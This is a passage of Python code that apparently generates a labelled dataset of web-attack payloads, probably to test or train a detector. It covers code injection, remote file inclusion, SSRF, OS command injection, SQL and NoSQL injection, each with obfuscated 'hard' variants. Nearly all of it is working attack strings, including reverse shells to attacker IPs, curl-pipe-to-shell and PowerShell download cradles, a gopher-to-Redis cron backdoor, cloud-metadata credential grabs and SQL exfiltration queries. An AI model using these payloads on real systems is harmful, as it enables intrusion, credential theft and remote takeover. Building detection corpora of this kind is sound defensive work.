            "exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('curl http://%s/b')" % h()),
            param="code",
            path="/notebook/cell",
        )
    )
    L.append(Hd("query", "\uff45\uff56\uff41\uff4c(\"__import__('os').system('id')\")", param="expr", path="/api/calc"))
    L.append(
        Hd(
            "json",
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()",
            param="expr",
            path="/api/filters/preview",
        )
    )
    L.append(
        Hd(
            "query",
            "global.process.mainModule.\\u0072equire('child_process').\\u0065xecSync('id')",
            param="fn",
            path="/api/sort",
        )
    )
    L.append(
        Hd(
            "json",
            "eval(Buffer.from('%s','base64').toString())" % b64('require("child_process").execSync("id")'),
            param="script",
            path="/api/v1/reports/transform",
        )
    )
    L.append(
        Hd(
            "form",
            "eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) for c in "require('child_process').exec('id')"),
            param="filter",
            path="/search/advanced",
        )
    )
    L.append(
        Hd(
            "cookie",
            b64(
                compact(
                    {
                        "username": "guest",
                        "rce": "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://%s/c')}()" % h(),
                    }
                )
            ),
            cname="profile",
            path="/",
        )
    )
    L.append(Hd("query", 'Kernel.public_send("sy"+"stem","id")', param="calc", path="/calculator"))
    L.append(
        Hd("json", 'eval(["%s"].pack("H*"))' % "system('id')".encode().hex(), param="rule", path="/api/alerts/rules")
    )
    L.append(
        Hd("form", 'eval(pack("H*","%s"))' % 'system("id")'.encode().hex(), param="greeting", path="/cgi-bin/card.pl")
    )
    L.append(Hd("query", "qx{cat /etc/passwd}", param="expr", path="/cgi-bin/calc.pl"))
    L.append(
        Hd(
            "json",
            "load(string.char(%s))()" % ",".join(str(ord(c)) for c in "os.execute('id')"),
            param="script",
            path="/api/server/scripts",
        )
    )
    L.append(
        Hd(
            "multipart",
            '@{ var p = new System.Diagnostics.ProcessStartInfo("cm"+"d.exe", "/c whoami"); System.Diagnostics.Process.Start(p); }',
            param="body",
            path="/Admin/EmailTemplates/Save",
        )
    )
    L.append(
        Hd(
            "header",
            '[]["constructor"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id")',
            hname="X-Filter",
            path="/api/items",
        )
    )
    L.append(
        Hd(
            "json",
            "eval(parse(text=rawToChar(as.raw(c(%s)))))" % ",".join("0x%02x" % ord(c) for c in 'system("id")'),
            param="r_code",
            path="/ocpu/library/base/R/eval",
        )
    )
    L.append(Hd("path", '__import__("os").system("id")', path="/calc/{P}", pstyle="full"))
    L.append(
        Hd(
            "json",
            "__import__('os').\uff53\uff59\uff53\uff54\uff45\uff4d('id')",
            param="expr",
            jesc="rand",
            deep=True,
            path="/api/pipeline",
        )
    )
    L.append(Hd("xml", "__import__('subprocess').getoutput('id')", param="expr", xesc="charref"))
    return L


def cat_rfi():
    L = []
    ip = aip()
    iv = ip_variants(ip)
    L.append(A("query", "http://%s/shell.txt?" % aip(), param="page", path="/index.php"))
    L.append(
        A(
            "query",
            "https://raw.githubusercontent.com/%s/%s/main/inc/sh.txt?" % (tok(7), tok(6)),
            param="file",
            path="/include.php",
        )
    )
    L.append(A("query", "ftp://anonymous:guest@%s/pub/s.txt" % aip(), param="lang", path="/index.php"))
    L.append(
        A(
            "query",
            "https://pastebin.com/raw/%s?" % tok(8, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"),
            param="template",
            path="/view.php",
        )
    )
    L.append(A("query", "http://%s/modules/mailer.txt#" % adom(), param="module", path="/admin/index.php"))
    L.append(A("query", "\\\\%s\\share\\shell.php" % aip(), param="inc", path="/index.php"))
    L.append(A("form", "http://%s/themes/x/header.txt?" % adom(), param="theme_url", path="/admin/appearance.php"))
    L.append(A("json", "https://%s/plugins/backup.php.txt" % adom(), param="plugin_url", path="/api/plugins/install"))
    L.append(A("cookie", "http://%s/lang.txt?" % aip(), cname="lang", path="/index.php"))
    L.append(A("cookie", "https://%s/t/main.tpl.txt?" % adom(), cname="template", path="/"))
    L.append(A("header", "http://%s/skins/dark.txt?" % aip(), hname="X-Skin-Url", path="/portal/index.php"))
    L.append(A("path", "http://%s/s.txt?" % aip(), path="/view/{P}"))
    L.append(A("path", "http://%s/p.txt?" % adom(), path="/render/page/{P}"))
    L.append(A("multipart", "http://%s/x.txt?" % adom(), param="template_url", path="/admin/newsletter/template"))
    L.append(A("multipart", "ftp://%s/pub/inc.php" % aip(), param="import_from", path="/admin/import.php"))
    L.append(A("xml", "http://%s/tpl.txt?" % aip(), param="templateUrl", path="/api/render"))
    L.append(A("query", "http://%s:8080/c99.txt?" % aip(), param="page", path="/main.php"))
    L.append(A("query", "http://%s/cmd.txt?cmd=id&" % adom(), param="view", path="/index.php"))
    L.append(A("query_key", "http://%s/r57.txt?" % aip(), noeq=True, fill=False, path="/inc.php"))
    L.append(
        A(
            "form",
            "https://gist.githubusercontent.com/%s/%s/raw/sh.txt?" % (tok(8), tok(32, HEXD)),
            param="page",
            path="/index.php",
        )
    )
    L.append(A("json", "ftp://%s/t.php" % aip(), param="template", path="/api/cms/blocks"))
    L.append(A("json", "http://%s/x.txt?" % aip(), param="includeFile", deep=True, path="/api/layout"))
    L.append(A("json_key", "http://%s/m.txt?" % adom(), kval=True, path="/api/modules/enable"))
    L.append(A("form", "http://%s/en?" % aip(), param="lang", path="/setlang.php"))
    L.append(A("query", "http://%s/" % aip(), param="path", path="/lib/init.php"))
    L.append(A("query", "http://%s/?" % adom(), param="class_path", path="/classes/loader.php"))
    L.append(
        A(
            "multipart",
            'auto_prepend_file="http://%s/p.txt"\n' % aip(),
            mp="file",
            filename=".user.ini",
            fct="application/octet-stream",
            path="/upload.php",
        )
    )
    L.append(A("xml", "ftp://%s/inc.txt" % aip(), param="include"))
    L.append(A("header", "https://%s/plugins/stats.txt?" % adom(), hname="X-Plugin-Source", path="/admin/plugins.php"))
    L.append(A("cookie", "ftp://%s/skins/dark.txt" % aip(), cname="skin", path="/forum/index.php"))
    # ---- hard (20)
    L.append(Hd("query", "hTtP://%s/s.txt?" % aip(), param="page", path="/index.php"))
    L.append(Hd("query", "http://%s/s.txt?" % iv["dec"], param="file", path="/index.php"))
    L.append(Hd("query", "http://%s/s.txt?" % iv["hexdot"], param="page", path="/index.php"))
    L.append(Hd("query", "http://%s/s.txt?" % iv["v6"], param="inc", path="/index.php"))
    L.append(Hd("query", "http%%3A%%2F%%2F%s%%2Fs.txt%%3F" % aip(), param="page", path="/index.php"))
    L.append(Hd("query", "http://%s/s.txt\x00" % adom(), param="lang", path="/index.php"))
    L.append(Hd("query", "php://filter/resource=http://%s/s.txt" % aip(), param="page", path="/index.php"))
    L.append(Hd("query", "compress.zlib://http://%s/s.txt" % aip(), param="file", path="/index.php"))
    L.append(
        Hd(
            "query",
            "data://text/plain;base64," + b64("<?php include('http://%s/s.txt'); ?>" % aip()),
            param="page",
            path="/index.php",
        )
    )
    L.append(Hd("cookie", "\\\\%s@SSL@443\\DavWWWRoot\\s.php" % aip(), cname="lang", path="/index.php"))
    L.append(Hd("form", "//%s/share/s.php" % aip(), param="include", path="/admin/index.php"))
    L.append(Hd("json", "http://%s/s.txt?" % aip(), param="template", jesc="punct", path="/api/cms/render"))
    L.append(Hd("multipart", "http://%s./s.txt?" % adom(), param="template_url", path="/admin/newsletter/template"))
    L.append(Hd("form", "Http://%s/%%73.txt?" % aip(), param="page", path="/index.php"))
    L.append(Hd("query", "http://%s/s.txt?" % iv["oct"], param="page", path="/index.php"))
    L.append(Hd("path", "http://%s/s.txt?" % aip(), path="/view/{P}", pstyle="full"))
    L.append(Hd("query_key", "http://%s/s.txt?" % aip(), enc="mixed", noeq=True, fill=False, path="/inc.php"))
    L.append(Hd("xml", "ftp://%s/inc.txt" % aip(), param="include", xesc="charref"))
    L.append(
        Hd(
            "header",
            "http://%s/s.txt?" % ip_variants(aip())["dec"],
            hname="X-Template-Source",
            path="/portal/index.php",
        )
    )
    L.append(Hd("query", "http://www.google.com@%s/s.txt?" % aip(), param="page", path="/index.php"))
    return L


# ================================================================ attacks part B
def resp(*args):
    return "*%d\r\n" % len(args) + "".join("$%d\r\n%s\r\n" % (len(a.encode()), a) for a in args)


def gopher_redis(ip, cron_host):
    cron = "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/%s/4444 0>&1'\n\n" % cron_host
    r = (
        resp("flushall")
        + resp("set", "x", cron)
        + resp("config", "set", "dir", "/var/spool/cron/")
        + resp("config", "set", "dbfilename", "root")
        + resp("save")
        + resp("quit")
    )
    return "gopher://%s:6379/_" % ip + quote(r, safe="")


def gopher_smtp(to, frm):
    s = (
        "HELO localhost\r\nMAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\nFrom: %s\r\nSubject: Invoice overdue\r\n\r\nPlease pay via the link.\r\n.\r\nQUIT\r\n"
        % (frm, to, frm)
    )
    return "gopher://127.0.0.1:25/_" + quote(s, safe="")


def cat_ssrf():
    h = oob
    L = []
    L.append(
        A(
            "json",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            param="webhook_url",
            extra={"events": ["order.created"]},
            path="/api/integrations/webhooks",
        )
    )
    L.append(A("query", "http://169.254.169.254/latest/user-data", param="url", path="/api/link-preview"))
    L.append(
        A(
            "json",
            "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
            param="avatar_url",
            path="/api/users/me",
            method="PATCH",
        )
    )
    L.append(
        A(
            "form",
            "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
            param="feed_url",
            path="/admin/feeds/add",
        )
    )
    L.append(
        A(
            "query",
            "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
            param="image",
            path="/img/resize",
        )
    )
    L.append(A("json", "http://169.254.169.254/opc/v1/instance/", param="callback_url", path="/api/v2/exports"))
    L.append(A("query", "http://169.254.170.2/v2/credentials/%s" % uuid4(), param="url", path="/fetch"))
    L.append(
        A(
            "json",
            "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
            param="target",
            deep=True,
            path="/api/monitors",
        )
    )
    L.append(A("query", "http://127.0.0.1:2375/containers/json?all=1", param="src", path="/proxy/image"))
    L.append(A("form", "http://localhost:8500/v1/agent/self", param="health_check_url", path="/services/register"))
    L.append(A("json", "http://127.0.0.1:9200/_cat/indices?v", param="source_url", path="/api/imports"))
    L.append(A("query", "http://localhost:8080/actuator/env", param="target", path="/api/uptime/check"))
    L.append(A("json", "file:///etc/passwd", param="import_url", path="/api/catalog/import"))
    L.append(A("query", "dict://127.0.0.1:11211/stats", param="url", path="/api/link-preview"))
    L.append(
        A(
            "multipart",
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200">\n  <image xlink:href="http://169.254.169.254/latest/meta-data/hostname" width="400" height="200"/>\n</svg>\n',
            mp="file",
            filename="diagram.svg",
            fct="image/svg+xml",
            path="/api/images/convert",
        )
    )
    L.append(
        A(
            "json",
            '<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="1000" height="1000"></iframe>',
            param="html",
            extra={"format": "A4"},
            path="/api/pdf/render",
        )
    )
    L.append(A("header", "169.254.169.254", hname="Host", path="/latest/meta-data/"))
    L.append(A("header", "http://127.0.0.1:8080/admin/", hname="Referer", path="/blog/post/42"))
    L.append(A("cookie", "http://10.0.0.12:8080/internal/config", cname="cdn_origin", path="/assets/logo.png"))
    L.append(A("path", "http://169.254.169.254/latest/meta-data/", path="/proxy/{P}", pstyle="raw"))
    L.append(A("path", "http://internal-admin.svc.cluster.local/", path="/fetch/{P}"))
    L.append(A("xml", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS", param="endpoint"))
    L.append(A("json", gopher_redis("127.0.0.1", aip()), param="webhook", path="/api/hooks"))
    L.append(
        A(
            "query",
            gopher_smtp("cfo@%s" % rng.choice(["northwind-shop.com", "acme-corp.com"]), "ceo@acme-corp.com"),
            param="url",
            path="/api/link-preview",
        )
    )
    L.append(
        A("json", "http://instance-data/latest/meta-data/public-keys/", param="logo_url", path="/api/org/branding")
    )
    L.append(A("form", "https://127.0.0.1:10250/runningpods/", param="url", path="/tools/status-check"))
    L.append(A("json", "http://127.0.0.1:2379/v2/keys/?recursive=true", param="endpoint", path="/api/config/sources"))
    L.append(
        A(
            "query_key",
            "http://169.254.169.254/latest/meta-data/placement/availability-zone",
            noeq=True,
            fill=False,
            path="/p",
        )
    )
    L.append(
        A(
            "json_key",
            "http://169.254.169.254/latest/dynamic/instance-identity/document",
            kval={"interval": 60},
            path="/api/monitoring/targets",
        )
    )
    L.append(
        A(
            "multipart",
            "http://169.254.169.254/latest/meta-data/iam/info",
            param="remote_url",
            path="/api/attachments/from-url",
        )
    )
    # ---- hard (20)
    L.append(Hd("json", "http://2852039166/latest/meta-data/", param="webhook_url", path="/api/integrations/webhooks"))
    L.append(Hd("query", "http://0251.0376.0251.0376/latest/meta-data/", param="url", path="/api/link-preview"))
    L.append(
        Hd(
            "form",
            "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/",
            param="feed_url",
            path="/admin/feeds/add",
        )
    )
    L.append(Hd("json", "http://169.254.43518/latest/meta-data/", param="image_url", path="/api/products/12/images"))
    L.append(Hd("query", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", param="src", path="/img/proxy"))
    L.append(
        Hd(
            "json",
            "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
            param="callback",
            path="/api/v2/exports",
        )
    )
    L.append(
        Hd(
            "query",
            "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/",
            param="url",
            path="/fetch",
        )
    )
    L.append(Hd("json", "http://169.254.169.254.nip.io/latest/meta-data/", param="target_url", path="/api/monitors"))
    L.append(Hd("form", "http://a9fea9fe.08080808.rbndr.us/latest/meta-data/", param="url", path="/tools/fetch"))
    L.append(
        Hd(
            "query",
            "http://make-1.1.1.1-rebind-169.254.169.254-rr.1u.ms/latest/meta-data/",
            param="url",
            path="/api/link-preview",
        )
    )
    L.append(
        Hd(
            "json",
            "https://%s/r?to=http%%3A%%2F%%2F169.254.169.254%%2Flatest%%2Fmeta-data%%2F" % adom(),
            param="avatar_url",
            path="/api/users/me",
            method="PATCH",
        )
    )
    L.append(
        Hd(
            "query",
            "http://img.northwind-shop.com@169.254.169.254/latest/meta-data/",
            param="image",
            path="/img/resize",
        )
    )
    L.append(
        Hd(
            "json",
            "http://127.0.0.1:11211#@img.northwind-shop.com/logo.png",
            param="image_url",
            path="/api/catalog/items",
        )
    )
    L.append(
        Hd(
            "form",
            "http://img.northwind-shop.com\\@169.254.169.254/latest/meta-data/",
            param="url",
            path="/tools/fetch",
        )
    )
    L.append(Hd("json", "http://0:8080/actuator/heapdump", param="health_url", path="/api/services"))
    L.append(Hd("xml", gopher_redis("127.1", aip()), param="callback"))
    L.append(
        Hd(
            "multipart",
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n  <image xlink:href="http://[::ffff:169.254.169.254]/latest/meta-data/" width="10" height="10"/>\n</svg>\n',
            mp="file",
            filename="badge.svg",
            fct="image/svg+xml",
            path="/api/badges",
        )
    )
    L.append(Hd("xml", "netdoc:///etc/passwd", param="url"))
    L.append(
        Hd(
            "path",
            "http://metadata.google.internal./computeMetadata/v1beta1/project/attributes/ssh-keys",
            path="/proxy/{P}",
            pstyle="full",
        )
    )
    L.append(Hd("query", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", param="u", path="/redirect-check"))
    return L


def cat_rce():
    h = oob
    L = []
    L.append(A("query", "127.0.0.1; id", param="host", path="/api/diag/ping"))
    L.append(A("query", "8.8.8.8 | cat /etc/passwd", param="ip", path="/tools/traceroute"))
    L.append(
        A("json", "example.com && curl -s http://%s/x.sh | sh" % h(), param="hostname", path="/api/network/dns-check")
    )
    L.append(A("form", "$(curl -s http://%s/r.sh|bash)" % aip(), param="target", path="/admin/ping"))
    L.append(A("query", "report.pdf`whoami`", param="filename", path="/api/export/convert"))
    L.append(A("json", "eth0; bash -i >& /dev/tcp/%s/4444 0>&1" % aip(), param="interface", path="/api/device/network"))
    L.append(A("form", "x || nc -e /bin/sh %s 4444" % aip(), param="domain", path="/whois"))
    L.append(A("query", "127.0.0.1\nid", param="addr", path="/cgi-bin/ping.cgi"))
    L.append(A("json", "backup.tar.gz; sleep 10;", param="archive", deep=True, path="/api/backups/restore"))
    L.append(A("query", "x | nslookup $(whoami).%s" % h(), param="domain", path="/api/domains/verify"))
    L.append(A("form", "a.txt; curl http://%s/$(id|base64 -w0)" % h(), param="path", path="/admin/files/checksum"))
    L.append(
        A("header", "() { :; }; /bin/bash -c 'curl http://%s/ss'" % h(), hname="User-Agent", path="/cgi-bin/status")
    )
    L.append(A("cookie", "() { :;}; echo; /bin/cat /etc/passwd", cname="lang", path="/cgi-bin/test.cgi"))
    L.append(
        A("header", "() { :; }; /usr/bin/wget -qO- http://%s/r|sh" % aip(), hname="Referer", path="/cgi-bin/login.sh")
    )
    L.append(A("path", "example.com;id", path="/api/tools/nslookup/{P}"))
    L.append(
        A(
            "multipart",
            "$(curl http://%s/f|sh).jpg" % aip(),
            mp="filename",
            fct="image/jpeg",
            fcontent="\xff\xd8\xff\xe0 JFIF",
            fieldname="photo",
            path="/api/photos",
        )
    )
    L.append(
        A(
            "multipart",
            "-resize 50%%; wget -qO- http://%s/a|sh" % aip(),
            param="convert_opts",
            path="/api/images/transform",
        )
    )
    L.append(A("xml", "pool.ntp.org;telnetd -l /bin/sh -p 9999", param="ntpServer", path="/cgi-bin/config.xml"))
    L.append(
        A(
            "query",
            "C:\\temp; IEX(New-Object Net.WebClient).DownloadString('http://%s/a.ps1')" % aip(),
            param="path",
            path="/api/win/diskusage",
        )
    )
    L.append(
        A(
            "json",
            "x & powershell -nop -w hidden -enc %s" % ps_enc("IEX(iwr http://%s/p.ps1 -UseBasicParsing)" % h()),
            param="printer",
            path="/api/print/queue",
        )
    )
    L.append(A("form", "localhost & whoami", param="host", path="/Tools/Ping.aspx"))
    L.append(A("query", "test | type C:\\Windows\\win.ini", param="name", path="/api/reports/open"))
    L.append(
        A(
            "json",
            "x && certutil -urlcache -split -f http://%s/a.exe %%TEMP%%\\a.exe && %%TEMP%%\\a.exe" % aip(),
            param="share",
            path="/api/backup/target",
        )
    )
    L.append(A("query", "127.0.0.1 & ping -n 11 127.0.0.1", param="host", path="/Tools/Ping.aspx"))
    L.append(A("form", "x & nslookup %%USERNAME%%.%s" % h(), param="computer", path="/admin/inventory/lookup"))
    L.append(
        A(
            "json",
            "C:\\logs; Invoke-WebRequest -Uri http://%s -Method POST -Body (Get-Content C:\\Windows\\win.ini)" % h(),
            param="logdir",
            path="/api/agent/collect",
        )
    )
    L.append(A("query", "x; Start-Sleep -s 10", param="service", path="/api/win/service-status"))
    L.append(A("json", "--upload-pack=touch /tmp/pwn", param="repo", path="/api/projects/import"))
    L.append(
        A("form", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh", param="archive_opts", path="/admin/archive")
    )
    L.append(A("cookie", "us-east-1; ping -c 3 %s" % h(), cname="region", path="/cgi-bin/dashboard"))
    # ---- hard (20)
    L.append(Hd("query", ";cat${IFS}/etc/passwd", param="host", path="/api/diag/ping"))
    L.append(Hd("json", "x;{cat,/etc/passwd}", param="hostname", path="/api/network/dns-check"))
    L.append(Hd("query", "1.1.1.1;c\\at /e?c/p*sswd", param="ip", path="/tools/traceroute"))
    L.append(Hd("form", "x;/???/c?t /???/p?ss??", param="domain", path="/whois"))
    L.append(Hd("query", "x;w'h'o'a'm'i", param="host", path="/api/diag/ping"))
    L.append(Hd("json", "x; $(printf '\\151\\144')", param="archive", path="/api/backups/restore"))
    L.append(Hd("query", "x;echo aWQ=|base64 -d|sh", param="filename", path="/api/export/convert"))
    L.append(Hd("form", "127.0.0.1;wh$@oami", param="target", path="/admin/ping"))
    L.append(Hd("query", "x;cat ${HOME:0:1}etc${HOME:0:1}passwd", param="name", path="/api/logs/tail"))
    L.append(
        Hd(
            "json",
            "x;$'\\x63\\x61\\x74' $'\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'",
            param="interface",
            path="/api/device/network",
        )
    )
    L.append(Hd("query", "x&c^m^d /c wh^oami", param="host", path="/Tools/Ping.aspx"))
    L.append(Hd("form", "x&set a=who&&set b=ami&&call %a%%b%", param="computer", path="/admin/inventory/lookup"))
    L.append(Hd("json", "x;iex (\"{1}{0}\" -f 'oami','wh')", param="logdir", path="/api/agent/collect"))
    L.append(
        Hd(
            "query",
            "x;& ('i'+'ex') ([char[]](119,104,111,97,109,105) -join '')",
            param="service",
            path="/api/win/service-status",
        )
    )
    L.append(Hd("header", "() { _; } >_[$($())] { /bin/sh -c 'id'; }", hname="User-Agent", path="/cgi-bin/status"))
    L.append(Hd("cookie", "x\ncurl http://%s/n" % h(), cname="region", path="/cgi-bin/dashboard"))
    L.append(
        Hd(
            "multipart",
            "a.png;sleep${IFS}10;.png",
            mp="filename",
            fct="image/png",
            fcontent="\x89PNG\r\n",
            fieldname="image",
            path="/api/images/transform",
        )
    )
    L.append(Hd("path", "example.com|id", path="/api/tools/nslookup/{P}", pstyle="full"))
    L.append(
        Hd("xml", ";tftp -g -r x.sh %s;sh x.sh" % aip(), param="ntpServer", xesc="charref", path="/cgi-bin/config.xml")
    )
    L.append(Hd("json", "x;a=who;b=ami;$a$b", param="hostname", jesc="punct", path="/api/network/dns-check"))
    return L


def cat_sqli():
    h = oob
    L = []
    L.append(A("query", "1' OR '1'='1", param="id", path="/api/products"))
    L.append(A("query", "5 AND 1=1", param="id", path="/item.php"))
    L.append(A("query", "Gifts' UNION SELECT username,password FROM users--", param="category", path="/filter"))
    L.append(A("query", "1 AND extractvalue(1,concat(0x7e,(SELECT version())))", param="id", path="/news.php"))
    L.append(A("query", "1 AND 1=CAST((SELECT version()) AS int)", param="id", path="/api/v1/invoices"))
    L.append(A("form", "admin'--", param="username", extra_form=[("password", "x")], path="/login"))
    L.append(A("json", "1'; WAITFOR DELAY '0:0:5'--", param="customerId", path="/api/crm/customers/search"))
    L.append(A("query", "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", param="q", path="/search"))
    L.append(
        A(
            "query",
            "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE username='admin')='a' THEN price ELSE name END)",
            param="sort",
            path="/api/products",
        )
    )
    L.append(A("json", "name; SELECT pg_sleep(5)--", param="sort", path="/api/v2/reports/query"))
    L.append(A("form", "'; EXEC xp_cmdshell 'whoami'--", param="search", path="/Orders/Search.aspx"))
    L.append(A("header", "127.0.0.1' AND SLEEP(5) AND '1'='1", hname="X-Forwarded-For", path="/login"))
    L.append(A("cookie", "abc123' AND (SELECT COUNT(*) FROM users)>0--", cname="tracking_id", path="/"))
    L.append(A("path", "1 OR 1=1", path="/api/users/{P}"))
    L.append(A("path", "5' UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -", path="/products/{P}"))
    L.append(
        A(
            "multipart",
            "x',(SELECT password FROM users LIMIT 1))-- -",
            param="title",
            extra_parts=[("description", "spring photos")],
            path="/api/albums",
        )
    )
    L.append(
        A(
            "multipart",
            "cv'||(SELECT pg_sleep(5))||'.pdf",
            mp="filename",
            fct="application/pdf",
            fcontent="%PDF-1.4\n",
            fieldname="resume",
            path="/careers/apply",
        )
    )
    L.append(A("xml", "1 UNION SELECT NULL,name,pass FROM admin--", param="accountId"))
    L.append(
        A(
            "json_key",
            "created_at,(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE 0 END)",
            kval="desc",
            extra={"limit": 20},
            path="/api/orders/list",
        )
    )
    L.append(A("query_key", "1=1 OR id", kval="7", fill=False, path="/api/records"))
    L.append(A("query", "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))", param="id", path="/portal/doc"))
    L.append(A("json", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)", param="deptId", path="/api/hr/employees"))
    L.append(A("query", "' UNION SELECT 1,sql,3 FROM sqlite_master--", param="tag", path="/notes/search"))
    L.append(A("query", "x' OR (profile->>'is_admin')::boolean--", param="username", path="/api/accounts/find"))
    L.append(
        A("json", "1 OR JSON_EXTRACT(settings,'$.role')='admin'", param="user_id", deep=True, path="/api/preferences")
    )
    L.append(A("query", "%' AND password LIKE 'a%", param="search", path="/api/members"))
    L.append(A("form", "1; EXEC master..xp_dirtree '\\\\%s\\a'--" % h(), param="id", path="/Reports/View.aspx"))
    L.append(
        A(
            "query",
            "1 AND (SELECT UTL_HTTP.REQUEST('http://%s/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL" % h(),
            param="id",
            path="/portal/doc",
        )
    )
    L.append(
        A(
            "json",
            "1 AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.%s\\\\a'))" % h(),
            param="id",
            path="/api/posts/view",
        )
    )
    L.append(
        A("query", "1; COPY (SELECT '') TO PROGRAM 'curl http://%s/pg'--" % h(), param="id", path="/api/v1/invoices")
    )
    # ---- hard (20)
    L.append(
        Hd("query", "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users", param="id", path="/api/products")
    )
    L.append(
        Hd(
            "query",
            "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()",
            param="id",
            path="/news.php",
        )
    )
    L.append(Hd("query", "1\x0bOR\x0b1=1", param="id", path="/item.php"))
    L.append(Hd("form", "admin'/**/OR/**/'a'='a", param="username", extra_form=[("password", "x")], path="/login"))
    L.append(Hd("query", "0.1e1union select 1,load_file(0x2f6574632f706173737764),3-- -", param="id", path="/news.php"))
    L.append(
        Hd("query", "'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'", param="q", path="/search")
    )
    L.append(
        Hd(
            "query",
            "IF((SELECT MID(password,1,1) FROM users LIMIT 1)=0x61,price,name)",
            param="sort",
            path="/api/products",
        )
    )
    L.append(Hd("query_key", "1=1/**/OR/**/id", kval="7", fill=False, path="/api/records"))
    L.append(
        Hd(
            "json",
            "1;DECLARE @q VARCHAR(99);SET @q=0x%s;EXEC(@q)--" % "waitfor delay '0:0:5'".encode().hex(),
            param="customerId",
            path="/api/crm/customers/search",
        )
    )
    L.append(
        Hd("query", '\' OR \'{"b":2}\'::jsonb <@ \'{"a":1, "b":2}\'--', param="username", path="/api/accounts/find")
    )
    L.append(Hd("json", "' OR JSON_EXTRACT('{\"id\": 14}','$.id')=14-- -", param="username", path="/api/auth/login"))
    L.append(Hd("query", "\u02bc OR 1=1--", param="name", path="/Products/List.aspx"))
    L.append(Hd("query", "\u00bf' OR 1=1-- -", param="id", enc="latin1", path="/item.php"))
    L.append(Hd("query", "1%27%20UNION%20SELECT%20NULL%2Cversion()--", param="id", path="/api/products"))
    L.append(Hd("cookie", b64("1' OR '1'='1"), cname="uid", path="/account"))
    L.append(Hd("header", "Mozilla/5.0'+(select*from(select(sleep(5)))a)+'", hname="User-Agent", path="/"))
    L.append(
        Hd(
            "json",
            "admin' OR 1=1--",
            param="username",
            jesc="punct",
            extra={"password": "irrelevant"},
            path="/api/auth/login",
        )
    )
    L.append(Hd("multipart", "1 AnD(SeLeCt 1 FrOm(SeLeCt(SlEeP(5)))x)", param="album_id", path="/api/photos"))
    L.append(Hd("xml", "' OR 1=1--", param="accountId", xesc="charref"))
    L.append(Hd("path", "(1)OR(1=1)", path="/api/users/{P}", pstyle="mixed"))
    return L


def cat_nosqli():
    h = oob
    L = []
    L.append(A("json", {"$ne": None}, param="password", extra={"username": "admin"}, path="/api/auth/login"))
    L.append(
        A("json", {"$gt": ""}, param="password", extra={"email": "admin@northwind-shop.com"}, path="/api/v1/sessions")
    )
    L.append(A("json", {"$regex": "^adm"}, param="username", extra={"password": {"$ne": "x"}}, path="/api/auth/login"))
    L.append(
        A("form", "password[$ne]", as_key=True, kval="x", extra_form=[("username", "admin")], path="/login", fill=False)
    )
    L.append(
        A(
            "form",
            "username[$regex]",
            as_key=True,
            kval="^a.*",
            extra_form=[("password[$ne]", "1")],
            path="/login",
            fill=False,
        )
    )
    L.append(A("query_key", "user[$ne]", kval="guest", path="/api/users/lookup"))
    L.append(A("query_key", "token[$ne]", kval="null", path="/api/password/reset/verify"))
    L.append(A("query", "'; return '' == '", param="q", path="/api/products/search"))
    L.append(A("query", "admin' || '1'=='1", param="username", path="/api/users/profile"))
    L.append(A("json", {"$where": "sleep(5000) || true"}, param="filter", deep=True, path="/api/reports/run"))
    L.append(A("json", {"$where": "this.password.match(/^a.*/) != null"}, param="query", path="/api/admin/users/find"))
    L.append(
        A(
            "json",
            {
                "$expr": {
                    "$function": {"body": "function(p){return p.startsWith('a')}", "args": ["$password"], "lang": "js"}
                }
            },
            param="filter",
            path="/api/members/search",
        )
    )
    L.append(
        A(
            "json",
            [
                {
                    "$group": {
                        "_id": None,
                        "x": {
                            "$accumulator": {
                                "init": "function(){return ''}",
                                "accumulate": "function(s,p){return s+p+','}",
                                "accumulateArgs": ["$password"],
                                "merge": "function(a,b){return a+b}",
                                "lang": "js",
                            }
                        },
                    }
                }
            ],
            param="pipeline",
            path="/api/analytics/aggregate",
        )
    )
    L.append(
        A(
            "json",
            [
                {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                {"$project": {"u.password": 1, "u.email": 1}},
            ],
            param="pipeline",
            path="/api/analytics/aggregate",
        )
    )
    L.append(
        A(
            "json",
